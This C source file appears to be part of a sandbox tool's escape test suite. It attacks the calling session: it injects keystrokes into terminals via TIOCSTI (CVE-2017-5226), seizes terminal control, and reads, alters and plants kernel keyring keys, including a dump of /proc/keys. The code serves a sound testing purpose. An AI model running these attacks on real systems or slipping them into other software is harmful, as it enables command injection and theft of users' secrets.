// SPDX-License-Identifier: MIT
/* Attacks on the caller's terminal and keys, which a session shares. */
#include "attack.h"

#include <linux/keyctl.h>
#include <linux/kd.h>
#include <signal.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <termios.h>

/* CVE-2017-5226: types into the input of the next reader of this terminal. */
static void type_at(int fd, const char *how)
{
	static const char text[] = "TYPED\n";

	for (const char *c = text; *c; c++)
		if (ioctl(fd, TIOCSTI, c) < 0) {
			printf("TIOCSTI at %s: %s\n", how, strerror(errno));
			return;
		}
	printf("typed at %s\n", how);
}

static void type_at_path(const char *path)
{
	int fd = open(path, O_RDWR | O_NOCTTY | O_NONBLOCK | O_CLOEXEC);

	if (fd < 0)
		return;
	type_at(fd, path);
	close(fd);
}

void attack_type(char **args)
{
	static const char *const usual[] = { "/dev/tty", "/dev/console", "/dev/pts/0", "/dev/pts/1" };
	char path[32];

	for (int fd = 0; fd < 8; fd++) {
		snprintf(path, sizeof(path), "descriptor %d", fd);
		type_at(fd, path);
		snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
		type_at_path(path);
	}
	for (size_t i = 0; i < sizeof(usual) / sizeof(*usual); i++)
		type_at_path(usual[i]);
	for (; *args; args++)
		type_at_path(*args);
}

/* Becomes the foreground process group, or detaches the terminal from its session. */
void attack_take_terminal(char **args)
{
	int tty = open("/dev/tty", O_RDWR | O_CLOEXEC);
	pid_t own = getpid();

	(void)args;
	signal(SIGTTOU, SIG_IGN);
	setpgid(0, 0);
	if (tty >= 0 && tcsetpgrp(tty, own) == 0)
		printf("foreground of /dev/tty\n");
	for (int fd = 0; fd < 3; fd++)
		if (tcsetpgrp(fd, own) == 0)
			printf("foreground of descriptor %d\n", fd);
	setsid();
	for (int fd = 0; fd < 3; fd++)
		if (ioctl(fd, TIOCSCTTY, 1) == 0)
			printf("took descriptor %d\n", fd);
	wait_for_judge();
}

/* ---- keys ---- */

static void try_key(long key, const char *how)
{
	char text[256] = "";

	if (key <= 0)
		return;
	if (syscall(SYS_keyctl, KEYCTL_READ, key, text, sizeof(text) - 1) > 0)
		printf("got key by %s: %s\n", how, text);
	if (syscall(SYS_keyctl, KEYCTL_UPDATE, key, "changed", 7) == 0)
		printf("changed key by %s\n", how);
}

static void try_ring(long ring, const char *how)
{
	int keys[64];
	long n;

	try_key(syscall(SYS_keyctl, KEYCTL_SEARCH, ring, "user", "idmount-canary", 0), how);
	n = syscall(SYS_keyctl, KEYCTL_READ, ring, keys, sizeof(keys));
	for (long i = 0; i < n / (long)sizeof(*keys) && i < 64; i++)
		try_key(keys[i], how);
	syscall(SYS_add_key, "user", "idmount-planted", "x", 1, ring);
}

void attack_keys(char **args)
{
	(void)args;
	try_ring(KEY_SPEC_SESSION_KEYRING, "session keyring");
	try_ring(KEY_SPEC_USER_SESSION_KEYRING, "user session keyring");
	try_ring(KEY_SPEC_USER_KEYRING, "user keyring");
	try_key(syscall(SYS_request_key, "user", "idmount-canary", NULL, 0), "request_key");
	/* A key can be used by its number, without a keyring. A visible /proc/keys lists those of the
	 * caller. */
	print_file(AT_FDCWD, "/proc/keys", "keys");
}
